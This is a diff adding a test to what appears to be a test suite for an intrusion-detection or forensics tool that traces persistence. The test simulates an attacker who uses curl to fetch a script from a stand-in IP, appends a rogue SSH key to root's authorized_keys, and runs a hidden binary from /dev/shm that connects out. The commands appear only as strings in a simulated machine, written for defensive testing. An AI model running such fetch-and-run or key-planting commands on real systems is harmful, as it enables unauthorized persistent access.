@@ -133,6 +133,18 @@ describe('a log-on', () => {
     expect(labels(story, 'persistence', ({ facts }) => facts['line'] !== undefined)).toEqual(['/root/.ssh/authorized_keys:2: ssh-ed25519 BBBBevil x@y']);
   });
 
+  it('is known by its line where the script that wrote it holds that line', () => {
+    const { shell } = logOn(machine, 'root', attacker);
+    const curl = machine.run(shell, '/usr/bin/curl', 'curl -o /tmp/go.sh http://198.51.100.7/go.sh');
+    write(machine, disk, curl, '/tmp/go.sh', 'echo ssh-ed25519 BBBBevil x@y >> ~/.ssh/authorized_keys\n/dev/shm/.x\n');
+    machine.end(curl);
+    const script = machine.run(shell, '/bin/sh', 'sh /tmp/go.sh');
+    write(machine, disk, script, '/root/.ssh/authorized_keys', 'ssh-ed25519 AAAAown me@desk\nssh-ed25519 BBBBevil x@y\n', { isNew: false });
+    const evil = machine.run(script, '/dev/shm/.x', '/dev/shm/.x');
+    const story = tell(alertOf(connect(machine, evil, pool, 443)));
+    expect(labels(story, 'persistence', ({ facts }) => facts['line'] !== undefined)).toEqual(['/root/.ssh/authorized_keys:2: ssh-ed25519 BBBBevil x@y']);
+  });
+
   it('ties what one session wrote to what another runs, and the one from the same address whole', () => {
     const first = logOn(machine, 'root', attacker);
     const scp = machine.run(first.shell, '/usr/bin/scp', 'scp -t /opt/x');
